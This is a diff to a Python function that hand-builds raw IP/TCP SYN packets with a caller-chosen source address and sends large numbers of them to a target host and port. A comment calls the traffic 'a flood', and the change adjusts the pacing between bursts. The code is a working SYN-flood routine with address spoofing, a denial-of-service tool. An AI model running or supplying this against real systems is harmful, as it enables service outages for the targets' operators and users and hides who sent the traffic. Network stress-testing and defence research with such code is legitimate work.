@@ -46,12 +46,14 @@ def syn(source, address, port, count):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
     ends = socket.inet_aton(source) + socket.inet_aton(address)
+    began = time.monotonic()
     for i in range(int(count)):
         tcp = struct.pack("!HHIIBBHHH", 1024 + i % 64000, int(port), random.getrandbits(32), 0, 0x50, 2, 65000, 0, 0)
         tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
         raw.sendto(struct.pack("!BBHHHBBH", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0) + ends + tcp, (address, 0))
-        if i % 200 == 199:
-            time.sleep(0.01)
+        if i % 200 == 199:  # on a slow machine slower: a flood is more than the limits let in, not more than a processor can carry
+            time.sleep(max(0.01, time.monotonic() - began))
+            began = time.monotonic()
 
 
 def connecting(source, targets):
